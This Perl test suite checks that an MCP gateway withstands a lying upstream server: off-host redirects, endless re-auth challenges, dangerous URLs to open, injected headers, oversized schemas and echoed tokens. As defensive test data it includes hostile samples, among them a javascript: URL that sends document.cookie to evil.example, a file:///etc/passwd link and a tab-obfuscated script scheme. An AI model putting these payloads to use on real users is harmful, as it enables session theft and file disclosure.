#!/usr/bin/perl
# SPDX-License-Identifier: Apache-2.0
#
# Upstreams that lie when they are called with a user's token (protocol 6 F, 102 to 107): nothing leaves for another
# origin, nothing goes on for ever, nobody's browser is led astray, and other users notice nothing.

use strict;
use warnings;

use JSON::PP ();
use Test::More;

use Gatehouse::Authority;
use Gatehouse::Flow;
use Gatehouse::Http qw(request);
use Gatehouse::Pg;
use Gatehouse::Server;
use Gatehouse::Token qw(issue);

my $JSON = JSON::PP->new->canonical->utf8;
my %as = map { $_ => Gatehouse::Authority->new(user => "user-of-$_") } qw(bad good evil);
my $pg = Gatehouse::Pg->new;
my $gw = Gatehouse::Server->new(pg => $pg,
	policies => [map { { name => "mcp-token-exchange-$_", policyType => 'mcp-token-exchange-inbound',
		handler => { export => 'X', options => { displayName => ucfirst $_, authMode => 'user-oauth' } } } } qw(bad good)],
	routes => { map { ("/mcp/$_" => { upstream => $as{$_}->url('/mcp'), inbound => ["mcp-token-exchange-$_"] }) } qw(bad good) });
my $flow = Gatehouse::Flow->new(origin => $gw->origin);
my %token = map { $_ => issue($pg, $gw, "/mcp/$_", subject => 'dev-browser-user') } qw(bad good);
my $call = '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"whoami","arguments":{}}}';

sub post { my ($to, $message) = @_; return $flow->call("/mcp/$to", $token{$to}, $message || $call) }
sub connect_to {
	my ($to) = @_;
	my $r = $flow->open(post($to)->json->{error}{data}{authUrl});
	return $flow->browse('GET', request('GET', $r->header('location'))->header('location'));
}
sub answers { my (@answer) = @_; return $as{bad}->set(answers => @answer ? { '/mcp' => [@answer] } : undef) }
is(connect_to($_)->{status}, 200, "$_ is connected") for qw(bad good);

for my $status (301, 302, 303, 307, 308) {
	answers($status, 'text/plain', '', [['Location', $as{evil}->url('/mcp')]]);
	is(post('bad')->{status}, $status, "F102: a redirect ($status) to another host is not followed");
}
is(scalar(my @none = $as{evil}->requests), 0, '... and nothing went there');

$as{bad}->clear;
answers(401, 'application/json', '{}', [['WWW-Authenticate', 'Bearer error="invalid_token", resource_metadata="' . $as{evil}->url('/x') . '"']]);
is(post('bad')->json->{error}{data}{state}, 'reconsent_required', 'F103: one that answers 401 for ever');
is(scalar(my @calls = $as{bad}->requests('/mcp')) . ' ' . scalar(my @tokens = $as{bad}->requests('/token')), '2 1', '... is called twice, and its provider asked once');
is(post('bad')->json->{error}{data}{state}, 'reconsent_required', '... and not again');
is(scalar(@calls = $as{bad}->requests('/mcp')), 2, '... before the user has connected');
answers();
is(connect_to('bad')->{status}, 200, 'who does');
$as{bad}->clear;
my @more = (403, 'application/json', '{}', [['WWW-Authenticate', 'Bearer error="insufficient_scope", scope="read more"']]);
answers(@more);
my $asked = post('bad');
is($asked->json->{error}{data}{state}, 'reconsent_required', 'F103: one that wants more rights for ever');
answers();
my $there = $flow->open($asked->json->{error}{data}{authUrl});
is($flow->browse('GET', request('GET', $there->header('location'))->header('location'))->{status}, 200, '... of which the user is asked');
answers(@more);
is(post('bad')->{status}, 403, '... once') for 1 .. 2;
is(scalar(@none = $as{evil}->requests), 0, 'nothing went to the address that its challenge names');

my $elicit = sub {
	my ($url) = @_;
	return $JSON->encode({ jsonrpc => '2.0', id => 1, error => { code => -32042, message => 'open this', data => {
		elicitations => [{ mode => 'url', elicitationId => 'e', url => $url, message => 'm' }] } } });
};
for (['javascript:fetch("//evil.example/"+document.cookie)', 'a script'], ['data:text/html,<script>1</script>', 'data'], ['file:///etc/passwd', 'a file'],
	["java\tscript:1", 'a script with a tab in its name'], ['\\\\evil.example\\x', 'a share'], ['//evil.example', 'another host without a scheme']) {
	my ($url, $what) = @$_;
	for my $sse (0, 1) {
		my $text = $elicit->($url);
		answers(200, $sse ? ('text/event-stream', "event: message\ndata: $text\n\n") : ('application/json', $text));
		my $r = post('bad');
		my ($json) = $sse ? $r->{content} =~ /^data: (.*)$/m : $r->{content};
		my $got = eval { $JSON->decode($json) };
		is($got->{error}{code}, -32042, "F104: an address to open that is $what" . ($sse ? ', in a stream' : '')) or diag $r->{content};
		like($got->{error}{data}{elicitations}[0]{url}, qr/^-+$/, '... leads nowhere');
	}
}
answers(200, 'application/json', $elicit->('https://good.example/x?y=z'));
is(post('bad')->{content}, $elicit->('https://good.example/x?y=z'), 'F104: a web address passes as it came');
like($gw->log('mcp'), qr/addresses to open that are none/, '... and the log tells of the others');

answers(200, 'application/json', '{"jsonrpc":"2.0","id":1,"result":{}}', [['Set-Cookie', 'gatehouse_session=x'], ['WWW-Authenticate', 'Basic realm="give me"'],
	['Location', $as{evil}->url('/')], ['Refresh', '0; url=' . $as{evil}->url('/')], ['Access-Control-Allow-Origin', '*'], ['X-Anything', 'y']]);
my $r = post('bad');
ok(!$r->header($_), "F105: $_ stays here") for qw(Set-Cookie WWW-Authenticate Location Refresh Access-Control-Allow-Origin X-Anything);

my $evil = $as{evil}->url('/schema.json');
my $schema = $JSON->encode({ jsonrpc => '2.0', id => 1, result => { tools => [{ name => 'x', inputSchema => { '$ref' => $evil, '$schema' => $evil,
	anyOf => [map { { '$ref' => "$evil#$_", allOf => [{ anyOf => [{}] }] } } 1 .. 20_000] }, outputSchema => { '$dynamicRef' => $evil } }] } });
answers(200, 'application/json', $schema);
my $list = '{"jsonrpc":"2.0","id":1,"method":"tools/list"}';
is(post('bad', $list)->{content}, $schema, 'F106: a schema of ' . int(length($schema) / 1024) . ' KiB that refers elsewhere passes as it came');
is(scalar(@none = $as{evil}->requests), 0, '... and nobody looks there');

answers();
$as{bad}->clear;
post('bad');
my ($sent) = ($as{bad}->requests('/mcp'))[-1]{header}{authorization} =~ /^Bearer (\S+)/;
for (['application/json', qq({"jsonrpc":"2.0","id":1,"error":{"code":-1,"message":"your token $sent is bad"}})], ['text/plain', "token=$sent"],
	['text/event-stream', qq(data: {"jsonrpc":"2.0","id":1,"result":{"content":[{"type":"text","text":"$sent"}]}}\n\n)]) {
	answers(200, @$_);
	unlike(post('bad')->{content}, qr/\Q$sent\E/, "F107: an answer ($_->[0]) that repeats the user's token does not show it");
}
unlike($gw->log, qr/\Q$sent\E/, '... nor does the log');

is(post('good')->json->{result}{content}[0]{text}, 'hello user-of-good', 'all the while another upstream\'s users notice nothing');
done_testing;
